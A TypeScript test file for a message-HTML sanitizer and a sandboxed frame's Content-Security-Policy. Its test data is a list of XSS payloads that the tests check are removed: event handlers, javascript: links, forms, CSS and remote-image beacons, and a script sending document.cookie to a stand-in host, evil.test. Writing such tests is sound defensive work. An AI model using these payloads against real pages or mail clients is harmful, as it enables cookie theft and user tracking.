import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { sanitizeMessageHtml } from './sanitize.ts';
import { frameCsp } from './message-frame.ts';

const HOSTILE = [
  '<p onclick="steal()">Hi <b>Bob</b></p>',
  '<script>fetch("http://evil.test/" + document.cookie)</script>',
  '<img src="x" onerror="alert(1)">',
  '<img src="http://127.0.0.1:9/pixel.png" alt="pixel">',
  '<img src="//evil.test/p.gif">',
  '<a href="javascript:alert(1)">click</a> <a href="https://example.test/">ok</a>',
  '<iframe src="http://evil.test/"></iframe><form action="http://evil.test/"><input name="p"></form>',
  '<div style="background: url(http://evil.test/bg.png); color: red">styled</div>',
  '<style>body { background: url(http://evil.test/s.png) }</style>',
  '<svg><script>alert(1)</script></svg><object data="x"></object>',
].join('\n');

describe('sanitizeMessageHtml', () => {
  it('removes scripts, handlers, frames, forms and javascript: links', () => {
    const { html } = sanitizeMessageHtml(HOSTILE, { remoteImages: false });
    for (const bad of ['<script', 'onerror', 'onclick', 'javascript:', '<iframe', '<form', '<input', '<style', '<svg', '<object', 'url(']) {
      assert.ok(!html.toLowerCase().includes(bad), `${bad} survived: ${html}`);
    }
    assert.match(html, /<b>Bob<\/b>/u);
    assert.match(html, /<a href="https:\/\/example\.test\/" target="_blank" rel="noopener noreferrer">ok<\/a>/u);
    assert.match(html, /color:red/u);
  });

  it('blocks remote images until asked, and counts them', () => {
    const blocked = sanitizeMessageHtml(HOSTILE, { remoteImages: false });
    assert.equal(blocked.blockedImages, 2);
    assert.ok(!/(?<!-)src="(https?:)?\/\//u.test(blocked.html), blocked.html);
    assert.match(blocked.html, /data-blocked-src="http:\/\/127\.0\.0\.1:9\/pixel\.png"/u);
    const shown = sanitizeMessageHtml(HOSTILE, { remoteImages: true });
    assert.match(shown.html, /src="http:\/\/127\.0\.0\.1:9\/pixel\.png"/u);
    assert.equal(shown.blockedImages, 0);
  });

  it('drops image sources that point nowhere, points inline cid: images at their part URL', () => {
    const { html } = sanitizeMessageHtml('<img src="x"><img src="cid:Logo@x"><img src="cid:other@x"><img src="/api/part/guess/0"><img src="data:text/html;base64,PHNjcmlwdD4=">', {
      remoteImages: false,
      inline: new Map([['logo@x', '/api/part/t0k3n/0']]),
    });
    assert.ok(!html.includes('src="x"'));
    assert.ok(!html.includes('text/html'));
    assert.ok(!html.includes('guess'), 'a message cannot point at parts itself');
    assert.match(html, /<img src="\/api\/part\/t0k3n\/0" \/><img alt="\[missing inline image\]" \/>/u);
  });

  it('the frame policy allows no scripts and remote images only when asked', () => {
    assert.match(frameCsp(false), /default-src 'none'/u);
    assert.match(frameCsp(false), /img-src data:;/u);
    assert.doesNotMatch(frameCsp(false), /script-src/u);
    assert.match(frameCsp(true), /img-src data: http: https:/u);
    assert.match(frameCsp(false, 'http://127.0.0.1:8080'), /img-src data: http:\/\/127\.0\.0\.1:8080\/api\/part\/;/u);
    assert.match(frameCsp(false), /; sandbox allow-popups allow-popups-to-escape-sandbox$/u);
  });
});
